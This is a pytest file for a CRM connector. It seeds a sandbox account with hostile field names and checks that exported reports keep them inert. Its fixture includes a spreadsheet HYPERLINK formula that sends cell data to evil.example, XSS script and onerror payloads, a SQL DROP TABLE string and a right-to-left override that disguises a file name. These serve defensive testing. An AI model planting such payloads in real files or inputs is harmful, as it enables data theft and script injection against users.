"""Names of every nasty kind at the vendor, from its answers to every file that a person opens."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest

from connector.actions.report import ReportRequest, write_report
from connector.sandbox.crm.fields import Field
from connector.sandbox.crm.people import Person, Pipeline, PipelineStage
from connector.sandbox.crm.record import to_ms
from connector.sandbox.http.message import Answer, Request
from connector.sandbox.hubspot.mischief import HubSpotVendor
from tests.actions.test_sync import Office

LONG = "Ж" * 65_536
NASTY = {
    "control": "bell\x07 escape\x1b[31m vertical\x0b null\x00 end",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "right": "\u202etxt.exe\u202c שלום \u200fABC",
    "markup": "</script><script>alert(1)</script><img src=x onerror=alert(1)>&amp;",
    "lines": "one\r\ntwo\ttabs\u2028three",
    "half": "cut emoji HALF-SURROGATE",
    "long": LONG,
    "escaped": "_x0007_ %00 \\u0000 '; DROP TABLE deal; --",
}
WON = "s6"
HALF = b"HALF-SURROGATE"
RAW_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
TEMPLATES = ("total_sales", "sales_by_owner", "pipeline_overview", "data_quality")


@pytest.fixture(scope="module")
def nasty(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Office]:
    """An account whose deals, stages, owners, companies and fields have nasty names; it is synced."""
    with pytest.MonkeyPatch.context() as patch:
        office = Office(tmp_path_factory.mktemp("nasty"))
        fill(office)
        send_half_characters(patch)
        office.connect()
        done = office.sync()
        assert (done.partial, done.published, done.rejected) == (False, True, 0)
        yield office
        office.close()


def fill(office: Office) -> None:
    crm, then = office.crm, to_ms(office.now)
    crm.add_field("deals", Field("remark", NASTY["formula"], custom=True))
    stages = [
        PipelineStage(f"s{number}", text[:300], number, number > 5, 1.0 if number == 6 else 0.0, then, then)
        for number, text in enumerate(NASTY.values())
    ]
    crm.pipelines["deals"] = {"default": Pipeline("default", NASTY["markup"], 0, stages, then, then)}
    for number, text in enumerate(NASTY.values()):
        crm.people[str(number)] = Person(str(number), f"r{number}@a.example", text, "R", 900 + number, then, then, [])
        values = {"dealname": text, "amount": "100", "dealstage": f"s{number}", "pipeline": "default", "remark": text}
        values |= {"hubspot_owner_id": str(number), "closedate": "2026-10-05T00:00:00Z"}
        crm.create("deals", values)
        crm.create("deals", values | {"dealstage": WON})
        crm.create("companies", {"name": text, "domain": text[:200]})


def send_half_characters(patch: pytest.MonkeyPatch) -> None:
    """Let the account answer as HubSpot does for a name that was cut in the middle of an emoji."""
    answer = HubSpotVendor.answer

    def halved(vendor: HubSpotVendor, request: Request) -> Answer:
        told = answer(vendor, request)
        if told.raw is None and HALF in told.body():
            told.raw = told.body().replace(HALF, rb"\ud83d")
        return told

    patch.setattr(HubSpotVendor, "answer", halved)


def test_every_name_is_kept_as_the_vendor_has_it(nasty: Office) -> None:
    expected = {text.replace("HALF-SURROGATE", "\ufffd") for text in NASTY.values()}
    names = {row[0] for row in nasty.rows("SELECT name FROM deal", "deal")}
    assert expected <= names
    remarks = {row[0] for row in nasty.rows("SELECT custom['remark'] FROM deal", "deal")}
    assert expected <= remarks


@pytest.mark.parametrize("template", TEMPLATES)
def test_every_file_can_be_opened_and_nothing_in_it_acts(nasty: Office, template: str, tmp_path: Path) -> None:
    request = ReportRequest(template, date_range="all_time")
    for ending in (".xlsx", ".html", ".pdf", ".json"):
        write_report(nasty.store, "acme", request, tmp_path / f"report{ending}", nasty.now)
    (tmp_path / "tables").mkdir()
    write_report(nasty.store, "acme", request, tmp_path / "tables", nasty.now)
    check_workbook(tmp_path / "report.xlsx")
    page = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert not RAW_CONTROL.search(page)
    assert "<script>alert" not in page
    assert "<img src=x" not in page
    json.loads((tmp_path / "report.json").read_text(encoding="utf-8"))
    assert (tmp_path / "report.pdf").read_bytes().startswith(b"%PDF-")
    for path in (tmp_path / "tables").glob("*.csv"):
        text = path.read_text(encoding="utf-8-sig")
        assert not re.search(r"(^|[,;\n\t\"])=HYPERLINK", text), path.name


def check_workbook(path: Path) -> None:
    """A reader that is not ours opens it, and the only formulas are those that Puente wrote."""
    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert "evil.example" not in str(cell.value), (sheet.title, cell.coordinate)
                if cell.hyperlink is not None:
                    assert "evil.example" not in str(cell.hyperlink.target)
                if isinstance(cell.value, str):
                    assert len(cell.value.encode("utf-16-le")) // 2 <= 32_767
